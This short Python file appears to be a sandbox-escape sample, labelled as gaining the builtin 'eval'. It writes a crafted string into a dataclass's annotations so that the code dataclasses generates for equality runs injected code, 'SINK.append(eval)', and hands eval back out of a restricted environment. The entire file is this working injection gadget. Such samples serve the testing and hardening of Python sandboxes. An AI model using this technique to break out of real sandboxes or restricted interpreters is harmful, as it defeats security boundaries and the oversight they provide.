# gained: function eval
from dataclasses import dataclass
from typing import Any

SINK: list[Any] = []


class Odd:
    a: int = 0


def attack(path: str) -> Any:
    Odd.__annotations__["a==SINK.append(eval) or self.a"] = int
    dataclass(init=False, repr=False)(Odd)
    Odd() == Odd()
    return SINK[0]
